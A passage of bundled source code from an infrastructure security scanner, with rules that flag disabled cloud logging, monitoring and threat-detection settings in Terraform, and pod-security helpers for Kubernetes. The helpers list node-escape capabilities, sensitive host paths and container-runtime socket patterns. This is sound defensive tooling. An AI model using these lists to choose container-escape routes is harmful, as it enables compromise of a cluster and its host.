var aws_eks_control_plane_logging_incomplete_default = defineRule({
  meta: {
    id: "aws-eks-control-plane-logging-incomplete",
    title: "EKS control-plane API or audit logs not enabled",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["aws_eks_cluster"],
    description: "EKS sends no control-plane logs to CloudWatch unless `enabled_cluster_log_types` lists them. Without the `audit` and `api` logs there is no record of who read secrets, created pods or changed RBAC in the cluster.",
    remediation: 'Set `enabled_cluster_log_types = ["api", "audit", "authenticator"]` (add `controllerManager` and `scheduler` if useful) and give the `/aws/eks/<cluster>/cluster` log group a retention period.',
    precision: "high",
    cwe: ["CWE-778"],
    tags: ["aws", "eks", "kubernetes", "audit", "logging"],
    references: [
      "https://docs.aws.amazon.com/eks/latest/userguide/control-plane-logs.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#enabled_cluster_log_types"
    ]
  },
  check(cluster, { report }) {
    const types = cluster.attributes.enabled_cluster_log_types;
    if (isUnknown(types)) return;
    if (types === void 0 || types === null) {
      report({ message: `EKS cluster ${cluster.name} sends no control-plane logs: enabled_cluster_log_types is not set, so api and audit logs are missing` });
      return;
    }
    if (!Array.isArray(types) || types.some((type) => isUnknown(type))) return;
    const missing = REQUIRED_LOG_TYPES.filter((required) => !types.includes(required));
    if (missing.length > 0) {
      report({ at: ["enabled_cluster_log_types"], message: `EKS cluster ${cluster.name} does not enable the ${missing.join(" and ")} control-plane log${missing.length > 1 ? "s" : ""}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name                      = "platform"
  role_arn                  = aws_iam_role.eks.arn
  enabled_cluster_log_types = ["api", "audit", "authenticator"]

  vpc_config {
    subnet_ids = var.private_subnet_ids
  }
}
`
      }
    ],
    invalid: [
      {
        name: "audit log left out",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name                      = "platform"
  role_arn                  = aws_iam_role.eks.arn
  enabled_cluster_log_types = ["api", "authenticator"]

  vpc_config {
    subnet_ids = var.private_subnet_ids
  }
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "audit control-plane log" }]
      },
      {
        name: "no logs at all",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids = var.private_subnet_ids
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/aws-lb-access-logs-disabled.ts
var ELBV2_TYPES = /* @__PURE__ */ new Set(["aws_lb", "aws_alb"]);
var aws_lb_access_logs_disabled_default = defineRule({
  meta: {
    id: "aws-lb-access-logs-disabled",
    title: "Load balancer access logs switched off",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["aws_lb", "aws_alb", "aws_elb"],
    description: "Access logs are the only record of each request a load balancer received: client address, path, status and TLS details. With them switched off, probing, credential stuffing or exploitation attempts against the application behind it cannot be reconstructed.",
    remediation: 'Set `access_logs { bucket = "<log bucket>", enabled = true }`; the bucket policy must allow the Elastic Load Balancing log delivery principal to write.',
    precision: "high",
    cwe: ["CWE-778"],
    tags: ["aws", "elb", "alb", "access-logs", "logging"],
    references: [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/enable-access-logging.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb#access_logs",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elb#access_logs"
    ]
  },
  check(balancer, { report }) {
    const accessLogs = singleBlock(balancer.attributes, "access_logs");
    if (accessLogs === void 0 || accessLogs === "unknown") return;
    const { block, at } = accessLogs;
    if (isFalse(block.enabled)) {
      report({ at: [...at, "enabled"], message: `Load balancer ${balancer.name} has access logs disabled (access_logs.enabled = false)` });
    } else if (ELBV2_TYPES.has(balancer.type) && isUnset(block.enabled)) {
      report({ at, message: `Load balancer ${balancer.name} names an access log bucket but does not set enabled = true, so access logs are not written` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lb" "storefront" {
  name               = "storefront"
  load_balancer_type = "application"
  subnets            = var.public_subnet_ids

  access_logs {
    bucket  = aws_s3_bucket.lb_logs.id
    prefix  = "storefront"
    enabled = true
  }
}

resource "aws_elb" "legacy" {
  name               = "legacy"
  availability_zones = ["eu-west-1a"]

  access_logs {
    bucket = aws_s3_bucket.lb_logs.id
  }

  listener {
    instance_port     = 8080
    instance_protocol = "http"
    lb_port           = 80
    lb_protocol       = "http"
  }
}
`
      }
    ],
    invalid: [
      {
        name: "explicitly off",
        filename: "main.tf",
        code: `resource "aws_lb" "storefront" {
  name               = "storefront"
  load_balancer_type = "application"
  subnets            = var.public_subnet_ids

  access_logs {
    bucket  = aws_s3_bucket.lb_logs.id
    enabled = false
  }
}
`,
        errors: [{ line: 8, column: 5, messageIncludes: "access logs" }]
      },
      {
        name: "bucket without enabled on an application load balancer",
        filename: "main.tf",
        code: `resource "aws_alb" "storefront" {
  name    = "storefront"
  subnets = var.public_subnet_ids

  access_logs {
    bucket = aws_s3_bucket.lb_logs.id
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-aks-monitoring-disabled.ts
var azure_aks_monitoring_disabled_default = defineRule({
  meta: {
    id: "azure-aks-monitoring-disabled",
    title: "AKS monitoring add-on (Container Insights) explicitly disabled",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_kubernetes_cluster"],
    description: "The `oms_agent` add-on sends container logs, node and pod metrics to Log Analytics. With it switched off, a crashed, compromised or resource-starved workload leaves no record outside the cluster, and alerts built on Container Insights never fire.",
    remediation: "Enable the add-on: `oms_agent { log_analytics_workspace_id = azurerm_log_analytics_workspace.<name>.id }` (provider 3.x and later) or `addon_profile { oms_agent { enabled = true, log_analytics_workspace_id = … } }` (provider 2.x).",
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["azure", "aks", "kubernetes", "monitoring", "logging"],
    references: [
      "https://learn.microsoft.com/azure/azure-monitor/containers/container-insights-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/2.99.0/docs/resources/kubernetes_cluster#oms_agent"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.addon_profile).forEach((profile, profileIndex) => {
      if (!isObject(profile)) return;
      asList(profile.oms_agent).forEach((agent, index) => {
        if (isObject(agent) && isFalse(agent.enabled)) {
          report({
            at: ["addon_profile", profileIndex, "oms_agent", index, "enabled"],
            message: `AKS cluster ${cluster.name} has the monitoring add-on (oms_agent) disabled: container logs and metrics are not collected`
          });
        }
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "orders" {
  name                = "aks-orders"
  location            = "westeurope"
  resource_group_name = "rg-orders"
  dns_prefix          = "orders"

  oms_agent {
    log_analytics_workspace_id = azurerm_log_analytics_workspace.ops.id
  }
}

resource "azurerm_kubernetes_cluster" "legacy" {
  name                = "aks-legacy"
  location            = "westeurope"
  resource_group_name = "rg-legacy"
  dns_prefix          = "legacy"

  addon_profile {
    oms_agent {
      enabled                    = true
      log_analytics_workspace_id = azurerm_log_analytics_workspace.ops.id
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "legacy" {
  name                = "aks-legacy"
  location            = "westeurope"
  resource_group_name = "rg-legacy"
  dns_prefix          = "legacy"

  addon_profile {
    oms_agent {
      enabled = false
    }
  }
}
`,
        errors: [{ line: 9, column: 7, messageIncludes: "monitoring" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-defender-free-tier.ts
var azure_defender_free_tier_default = defineRule({
  meta: {
    id: "azure-defender-free-tier",
    title: "Microsoft Defender for Cloud plan on the Free pricing tier",
    severity: "medium",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_security_center_subscription_pricing"],
    description: "On the Free tier Defender for Cloud only assesses configuration; the threat detection of the Standard tier (alerts on suspicious logins, malware, SQL injection, anomalous storage access) is off for this resource type across the subscription.",
    remediation: 'Set `tier = "Standard"` for each `resource_type` that runs workloads (VirtualMachines, SqlServers, StorageAccounts, KeyVaults, Containers, AppServices…).',
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["azure", "defender", "security-center", "threat-detection"],
    references: [
      "https://learn.microsoft.com/azure/defender-for-cloud/defender-for-cloud-introduction",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/security_center_subscription_pricing#tier"
    ]
  },
  check(pricing, { report }) {
    const tier = pricing.attributes.tier;
    if (typeof tier !== "string" || tier.toLowerCase() !== "free") return;
    const resourceType = typeof pricing.attributes.resource_type === "string" ? pricing.attributes.resource_type : "VirtualMachines";
    report({
      at: ["tier"],
      message: `Defender for Cloud plan ${pricing.name} (${resourceType}) is on the Free pricing tier: threat detection and security alerts are off`
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_security_center_subscription_pricing" "servers" {
  tier          = "Standard"
  resource_type = "VirtualMachines"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_security_center_subscription_pricing" "sql" {
  tier          = "Free"
  resource_type = "SqlServers"
}
`,
        errors: [{ line: 2, column: 3, messageIncludes: "pricing tier" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-network-watcher-flow-log-disabled.ts
var azure_network_watcher_flow_log_disabled_default = defineRule({
  meta: {
    id: "azure-network-watcher-flow-log-disabled",
    title: "Network Watcher flow log explicitly disabled",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_network_watcher_flow_log"],
    description: "A flow log records which addresses talked to which ports through a network security group or virtual network. Turned off, there is no trace of lateral movement, scanning or data leaving the network to investigate after an incident.",
    remediation: "Set `enabled = true` on the flow log, keep a `retention_policy` long enough for investigations, and consider traffic analytics.",
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["azure", "network-watcher", "flow-logs", "logging"],
    references: [
      "https://learn.microsoft.com/azure/network-watcher/nsg-flow-logs-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_watcher_flow_log#enabled"
    ]
  },
  check(flowLog, { report }) {
    if (isFalse(flowLog.attributes.enabled)) {
      report({ at: ["enabled"], message: `Network Watcher flow log ${flowLog.name} is disabled: network flow logs are not recorded` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_network_watcher_flow_log" "app" {
  name                 = "fl-app"
  network_watcher_name = "nw-westeurope"
  resource_group_name  = "rg-network"
  target_resource_id   = azurerm_network_security_group.app.id
  storage_account_id   = azurerm_storage_account.flowlogs.id
  enabled              = true

  retention_policy {
    enabled = true
    days    = 90
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_network_watcher_flow_log" "app" {
  name                 = "fl-app"
  network_watcher_name = "nw-westeurope"
  resource_group_name  = "rg-network"
  target_resource_id   = azurerm_network_security_group.app.id
  storage_account_id   = azurerm_storage_account.flowlogs.id
  enabled              = false
}
`,
        errors: [{ line: 7, column: 3, messageIncludes: "flow logs" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-postgresql-logging-parameter-off.ts
var LOGGING_PARAMETERS = {
  log_checkpoints: "checkpoints are not logged, so query and error logs lose the context of heavy I/O",
  log_connections: "connection attempts are not logged, so brute-force and unexpected clients leave no trace",
  log_disconnections: "session ends are not logged, so session lengths and abnormal disconnects cannot be reconstructed"
};
var azure_postgresql_logging_parameter_off_default = defineRule({
  meta: {
    id: "azure-postgresql-logging-parameter-off",
    title: "PostgreSQL server parameter turns off connection or checkpoint logging",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: POSTGRESQL_CONFIGURATION_TYPES,
    description: "The server logs are where an Azure Database for PostgreSQL records who connected, from where, and for how long. Setting `log_connections`, `log_disconnections` or `log_checkpoints` to off removes that evidence for investigations and for alerting on password guessing.",
    remediation: 'Remove the configuration resource or set its `value = "on"`, and send the server logs to Log Analytics with a diagnostic setting.',
    precision: "very-high",
    cwe: ["CWE-778"],
    frameworks: { "CIS Azure 1.3.0": ["4.3.2", "4.3.3", "4.3.4"] },
    tags: ["azure", "postgresql", "database", "logging"],
    references: [
      "https://learn.microsoft.com/azure/postgresql/single-server/concepts-server-logs",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_configuration"
    ]
  },
  check(configuration, { report }) {
    const parameter = parameterTurnedOff(configuration, Object.keys(LOGGING_PARAMETERS));
    if (!parameter) return;
    report({ at: ["value"], message: `PostgreSQL parameter ${parameter} is turned off by ${configuration.name}: ${LOGGING_PARAMETERS[parameter]}` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_configuration" "log_connections" {
  name                = "log_connections"
  resource_group_name = "rg-crm"
  server_name         = azurerm_postgresql_server.crm.name
  value               = "on"
}

resource "azurerm_postgresql_configuration" "work_mem" {
  name                = "work_mem"
  resource_group_name = "rg-crm"
  server_name         = azurerm_postgresql_server.crm.name
  value               = "0"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_configuration" "log_checkpoints" {
  name                = "log_checkpoints"
  resource_group_name = "rg-crm"
  server_name         = azurerm_postgresql_server.crm.name
  value               = "off"
}

resource "azurerm_postgresql_flexible_server_configuration" "log_disconnections" {
  name      = "log_disconnections"
  server_id = azurerm_postgresql_flexible_server.crm.id
  value     = "OFF"
}
`,
        errors: [
          { line: 5, column: 3, messageIncludes: "log_checkpoints" },
          { line: 11, column: 3, messageIncludes: "log_disconnections" }
        ]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-security-center-alert-notifications-disabled.ts
var azure_security_center_alert_notifications_disabled_default = defineRule({
  meta: {
    id: "azure-security-center-alert-notifications-disabled",
    title: "Defender for Cloud security contact does not receive alert notifications",
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_security_center_contact"],
    description: "The security contact is configured but alert e-mails to it, or to the subscription's owners, are switched off. High-severity alerts then wait in the portal until someone happens to look, which delays the response to an active attack.",
    remediation: "Set `alert_notifications = true` and `alerts_to_admins = true` on the security contact.",
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["azure", "defender", "security-center", "alerts", "notifications"],
    references: [
      "https://learn.microsoft.com/azure/defender-for-cloud/configure-email-notifications",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/security_center_contact"
    ]
  },
  check(contact, { report }) {
    const { alert_notifications: toContact, alerts_to_admins: toAdmins } = contact.attributes;
    if (isFalse(toContact)) {
      const also = isFalse(toAdmins) ? " and to subscription admins" : "";
      report({ at: ["alert_notifications"], message: `Security Center contact ${contact.name} has alert notifications turned off: security alerts are not e-mailed to the contact${also}` });
    } else if (isFalse(toAdmins)) {
      report({ at: ["alerts_to_admins"], message: `Security Center contact ${contact.name} does not send alert notifications to subscription admins` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_security_center_contact" "soc" {
  name                = "soc"
  email               = "soc@example.com"
  alert_notifications = true
  alerts_to_admins    = true
}
`
      }
    ],
    invalid: [
      {
        name: "both off",
        filename: "main.tf",
        code: `resource "azurerm_security_center_contact" "soc" {
  name                = "soc"
  email               = "soc@example.com"
  alert_notifications = false
  alerts_to_admins    = false
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "alert notifications" }]
      },
      {
        name: "admins left out",
        filename: "main.tf",
        code: `resource "azurerm_security_center_contact" "soc" {
  name                = "soc"
  email               = "soc@example.com"
  alert_notifications = true
  alerts_to_admins    = false
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/azure-sql-threat-detection-alerts-disabled.ts
var ALERT_POLICY_TYPES = /* @__PURE__ */ new Set(["azurerm_mssql_server_security_alert_policy", "azurerm_mssql_managed_instance_security_alert_policy"]);
var azure_sql_threat_detection_alerts_disabled_default = defineRule({
  meta: {
    id: "azure-sql-threat-detection-alerts-disabled",
    title: "Azure SQL threat detection disabled or some of its alerts turned off",
    severity: "medium",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: [
      "azurerm_mssql_server_security_alert_policy",
      "azurerm_mssql_managed_instance_security_alert_policy",
      "azurerm_mssql_database",
      "azurerm_sql_database",
      "azurerm_sql_server"
    ],
    description: "Advanced Threat Protection for Azure SQL raises alerts on SQL injection, brute-force logins, access from unusual places and data exfiltration. A disabled policy, or a `disabled_alerts` list, silences exactly the signals that show a database being attacked.",
    remediation: 'Set `state = "Enabled"` (or `enabled = true` for managed instances) and leave `disabled_alerts` empty, with `email_addresses` or `email_account_admins` set so someone receives the alerts.',
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["azure", "sql", "threat-detection", "defender", "alerts"],
    references: [
      "https://learn.microsoft.com/azure/azure-sql/database/threat-detection-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server_security_alert_policy",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_database#threat_detection_policy"
    ]
  },
  check(resource, { report }) {
    if (ALERT_POLICY_TYPES.has(resource.type)) {
      const finding = policyFinding(resource.attributes, [], `SQL security alert policy ${resource.name}`);
      if (finding) report(finding);
      return;
    }
    for (const { block, at } of blocksOf(resource.attributes, "threat_detection_policy") ?? []) {
      const finding = policyFinding(block, at, `the threat detection policy of ${resource.name}`);
      if (finding) report(finding);
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mssql_server_security_alert_policy" "billing" {
  resource_group_name  = "rg-billing"
  server_name          = azurerm_mssql_server.billing.name
  state                = "Enabled"
  email_addresses      = ["dba-oncall@example.com"]
  email_account_admins = true
  disabled_alerts      = []
}
`
      }
    ],
    invalid: [
      {
        name: "alerts turned off",
        filename: "main.tf",
        code: `resource "azurerm_mssql_server_security_alert_policy" "billing" {
  resource_group_name = "rg-billing"
  server_name         = azurerm_mssql_server.billing.name
  state               = "Enabled"
  disabled_alerts     = ["Sql_Injection", "Data_Exfiltration"]
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "Sql_Injection, Data_Exfiltration" }]
      },
      {
        name: "policy disabled",
        filename: "main.tf",
        code: `resource "azurerm_mssql_server_security_alert_policy" "billing" {
  resource_group_name = "rg-billing"
  server_name         = azurerm_mssql_server.billing.name
  state               = "Disabled"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "threat detection" }]
      },
      {
        name: "database block on an older provider",
        filename: "main.tf",
        code: `resource "azurerm_sql_database" "reports" {
  name                = "reports"
  resource_group_name = "rg-reports"
  location            = "westeurope"
  server_name         = azurerm_sql_server.reports.name

  threat_detection_policy {
    state = "Disabled"
  }
}
`,
        errors: [{ line: 8, column: 5 }]
      }
    ]
  }
});
function policyFinding(policy, base, label) {
  const switchedOff = isDisabledState(policy.state) ? "state" : isFalse(policy.enabled) ? "enabled" : void 0;
  if (switchedOff) {
    return { at: [...base, switchedOff], message: `SQL threat detection is disabled by ${label}: no alerts on injection, brute force or exfiltration` };
  }
  const disabled = policy.disabled_alerts;
  if (Array.isArray(disabled)) {
    const names = disabled.filter((name) => typeof name === "string" && name.trim() !== "");
    if (names.length > 0) {
      return { at: [...base, "disabled_alerts"], message: `SQL threat detection alerts are turned off by ${label}: ${names.join(", ")}` };
    }
  }
  return void 0;
}
function isDisabledState(value) {
  return typeof value === "string" && value.toLowerCase() === "disabled";
}

// packages/rules/src/terraform/logging/gcp-gke-logging-disabled.ts
var gcp_gke_logging_disabled_default = defineRule({
  meta: {
    id: "gcp-gke-logging-disabled",
    title: 'GKE cluster logging turned off (logging_service = "none")',
    severity: "medium",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: 'With `logging_service = "none"` a GKE cluster sends no system or workload logs to Cloud Logging. Container output, node events and control-plane component logs are lost when pods restart, leaving nothing to investigate a compromise with.',
    remediation: 'Remove `logging_service` or set it to `"logging.googleapis.com/kubernetes"`; select the components to collect with `logging_config { enable_components = ["SYSTEM_COMPONENTS", "WORKLOADS"] }`.',
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["gcp", "gke", "kubernetes", "logging"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/concepts/about-logs",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#logging_service"
    ]
  },
  check(cluster, { report }) {
    const service = cluster.attributes.logging_service;
    if (typeof service === "string" && service.trim().toLowerCase() === "none") {
      report({ at: ["logging_service"], message: `GKE cluster ${cluster.name} has logging turned off: no cluster or workload logs reach Cloud Logging` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "shop" {
  name               = "shop"
  location           = "europe-west1"
  initial_node_count = 1
  logging_service    = "logging.googleapis.com/kubernetes"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "shop" {
  name               = "shop"
  location           = "europe-west1"
  initial_node_count = 1
  logging_service    = "none"
  monitoring_service = "monitoring.googleapis.com/kubernetes"
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "logging" }]
      }
    ]
  }
});

// packages/rules/src/terraform/logging/gcp-gke-monitoring-disabled.ts
var gcp_gke_monitoring_disabled_default = defineRule({
  meta: {
    id: "gcp-gke-monitoring-disabled",
    title: 'GKE cluster monitoring turned off (monitoring_service = "none")',
    severity: "low",
    category: "logging",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: 'With `monitoring_service = "none"` a GKE cluster exports no metrics to Cloud Monitoring, so alerting policies on node, pod or control-plane health cannot fire; a crypto-miner eating CPU or a denial of service goes unnoticed.',
    remediation: 'Remove `monitoring_service` or set it to `"monitoring.googleapis.com/kubernetes"`; pick components with `monitoring_config { enable_components = ["SYSTEM_COMPONENTS"] }`.',
    precision: "very-high",
    cwe: ["CWE-778"],
    tags: ["gcp", "gke", "kubernetes", "monitoring"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/configure-metrics",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#monitoring_service"
    ]
  },
  check(cluster, { report }) {
    const service = cluster.attributes.monitoring_service;
    if (typeof service === "string" && service.trim().toLowerCase() === "none") {
      report({ at: ["monitoring_service"], message: `GKE cluster ${cluster.name} has monitoring turned off: no metrics reach Cloud Monitoring` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "shop" {
  name               = "shop"
  location           = "europe-west1"
  initial_node_count = 1
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "shop" {
  name               = "shop"
  location           = "europe-west1"
  initial_node_count = 1
  logging_service    = "logging.googleapis.com/kubernetes"
  monitoring_service = "none"
}
`,
        errors: [{ line: 6, column: 3, messageIncludes: "monitoring" }]
      }
    ]
  }
});

// packages/rules/src/support/pod-security.ts
function podOf(workload) {
  const pod = podSpecOf(workload);
  if (!pod) return void 0;
  return { spec: pod.spec, path: pod.path, containers: containersOf(workload) };
}
function isWindowsPod(pod) {
  const os = getPath(pod.spec, ["os", "name"]);
  return typeof os === "string" && os.toLowerCase() === "windows";
}
function effectiveSetting(pod, view, field) {
  const own = getPath(view.container, ["securityContext", field]);
  if (own !== void 0 && own !== null) return { value: own, path: [...view.path, "securityContext", field], from: "container" };
  const inherited = getPath(pod.spec, ["securityContext", field]);
  if (inherited !== void 0 && inherited !== null) return { value: inherited, path: [...pod.path, "securityContext", field], from: "pod" };
  return void 0;
}
function capabilities(view, which) {
  const list = getPath(view.container, ["securityContext", "capabilities", which]);
  if (!Array.isArray(list)) return [];
  const entries = [];
  list.forEach((item, index) => {
    if (typeof item !== "string") return;
    entries.push({ name: normaliseCapability(item), path: [...view.path, "securityContext", "capabilities", which, index] });
  });
  return entries;
}
function normaliseCapability(name) {
  const upper = name.trim().toUpperCase();
  return upper.startsWith("CAP_") ? upper.slice(4) : upper;
}
var NODE_ESCAPE_CAPABILITIES = /* @__PURE__ */ new Set([
  "ALL",
  "SYS_ADMIN",
  "SYS_MODULE",
  "SYS_PTRACE",
  "SYS_RAWIO",
  "DAC_READ_SEARCH",
  "BPF",
  "SYS_BOOT"
]);
var NETWORK_CAPABILITIES = /* @__PURE__ */ new Set(["NET_RAW", "NET_ADMIN"]);
var RESTRICTED_ADDABLE_CAPABILITY = "NET_BIND_SERVICE";
var BASELINE_CAPABILITIES = /* @__PURE__ */ new Set([
  "AUDIT_WRITE",
  "CHOWN",
  "DAC_OVERRIDE",
  "FOWNER",
  "FSETID",
  "KILL",
  "MKNOD",
  "NET_BIND_SERVICE",
  "SETFCAP",
  "SETGID",
  "SETPCAP",
  "SETUID",
  "SYS_CHROOT"
]);
function volumesOf(pod) {
  const volumes = [];
  asList(pod.spec.volumes).forEach((volume, index) => {
    if (!isObject(volume)) return;
    const name = typeof volume.name === "string" ? volume.name : `volumes[${index}]`;
    volumes.push({ name, volume, path: [...pod.path, "volumes", index] });
  });
  return volumes;
}
function hostPathVolumes(pod) {
  const found = [];
  for (const volume of volumesOf(pod)) {
    const hostPath = volume.volume.hostPath;
    if (!isObject(hostPath) || typeof hostPath.path !== "string") continue;
    const normalised = normaliseHostPath(hostPath.path);
    found.push({ ...volume, hostPath: normalised, at: [...volume.path, "hostPath", "path"], kind: classifyHostPath(normalised) });
  }
  return found;
}
function normaliseHostPath(path) {
  const collapsed = path.trim().replace(/\/+/g, "/");
  return collapsed.length > 1 ? collapsed.replace(/\/$/, "") : collapsed;
}
var RUNTIME_SOCKET = /(^|\/)(docker|containerd|crio|cri-dockerd|podman|dockershim)\.sock$/;
var RUNTIME_SOCKET_FOLDERS = /* @__PURE__ */ new Set(["/run/containerd", "/var/run/containerd", "/run/crio", "/var/run/crio", "/run/docker", "/var/run/docker", "/run/podman", "/var/run/podman"]);
var SENSITIVE_EXACT = /* @__PURE__ */ new Set(["/", "/var", "/var/lib", "/var/run", "/run", "/home"]);
var SENSITIVE_TREES = [
  "/etc",
  "/root",
  "/proc",
  "/sys",
  "/dev",
  "/boot",
  "/usr",
  "/bin",
  "/sbin",
  "/lib",
  "/lib64",
  "/var/lib/kubelet",
  "/var/lib/etcd",
  "/var/lib/docker",
  "/var/lib/containerd",
  "/var/lib/cri-o",
  "/var/lib/rancher",
  "/var/lib/k0s",
  "/var/lib/kube-proxy",
  "/var/lib/kube-scheduler",
  "/var/lib/kube-controller-manager",
  "/srv/kubernetes",
  "/opt/cni"
];
function classifyHostPath(path) {
  if (RUNTIME_SOCKET.test(path) || RUNTIME_SOCKET_FOLDERS.has(path)) return "runtime-socket";
  if (SENSITIVE_EXACT.has(path)) return "sensitive";
  if (SENSITIVE_TREES.some((tree) => path === tree || path.startsWith(`${tree}/`))) return "sensitive";
  return "other";
}
function containersMounting(pod, volume) {
  return pod.containers.filter(({ container }) => asList(container.volumeMounts).some((mount) => isObject(mount) && mount.name === volume)).map(({ name }) => name);
}
function namespaceOf(resource) {
  const namespace = getPath(resource.attributes, ["metadata", "namespace"]);
  return typeof namespace === "string" && namespace !== "" ? namespace : "default";
}
function annotationsAt(attributes, metadataPath) {
  const annotations = getPath(attributes, [...metadataPath, "annotations"]);
  const out = /* @__PURE__ */ new Map();
  if (!isObject(annotations)) return out;
  for (const [key, value] of Object.entries(annotations)) if (typeof value === "string") out.set(key, value);
  return out;
}
function podMetadataPath(pod) {
  return [...pod.path.slice(0, -1), "metadata"];
}
function groupBySetting(entries) {
  const groups = /* @__PURE__ */ new Map();
  for (const { view, setting } of entries) {
    const key = JSON.stringify(setting.path);
    const group = groups.get(key);
    if (group) group.containers.push(view.name);
    else groups.set(key, { path: setting.path, from: setting.from, containers: [view.name] });
  }
  return [...groups.values()];
}
function containerList(names) {
  return `${names.length === 1 ? "container" : "containers"} ${names.map((name) => `"${name}"`).join(", ")}`;
}
function containerAnnotation(workloadAttributes, pod, prefix, container) {
  const metadata = podMetadataPath(pod);
  const key = `${prefix}/${container}`;
  const value = annotationsAt(workloadAttributes, metadata).get(key);
  return value === void 0 ? void 0 : { value, path: [...metadata, "annotations", key] };
}
function serviceAccountUse(pod, accounts) {
  const field = ["serviceAccountName", "serviceAccount"].find((key) => typeof pod.spec[key] === "string" && pod.spec[key] !== "");
  const name = field ? String(pod.spec[field]) : "default";
  const account = accounts.find((candidate) => candidate.type === "ServiceAccount");
  return {
    name,
    at: field ? [...pod.path, field] : pod.path,
    podAutomount: pod.spec.automountServiceAccountToken ?? void 0,
    accountAutomount: account ? account.attributes.automountServiceAccountToken ?? void 0 : void 0,
    accountInScan: account !== void 0
  };
}

// packages/rules/src/kubernetes/iam/k8s-apparmor-unconfined.ts
var ANNOTATION_PREFIX = "container.apparmor.security.beta.kubernetes.io";
var k8s_apparmor_unconfined_default = defineRule({
  meta: {
    id: "k8s-apparmor-unconfined",
    title: "AppArmor profile set to unconfined",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The container runs with AppArmor `unconfined` (through the `appArmorProfile` field or the older `container.apparmor.security.beta.kubernetes.io` annotation), which removes the runtime's default profile that blocks writes to `/proc` and `/sys`, mounts and other container-escape techniques. The Pod Security Standards baseline profile forbids it.",
    remediation: "Remove the override so the runtime's default profile applies, or set `appArmorProfile: { type: RuntimeDefault }` (or a `Localhost` profile).",
    precision: "very-high",
    cwe: ["CWE-693"],
    frameworks: {
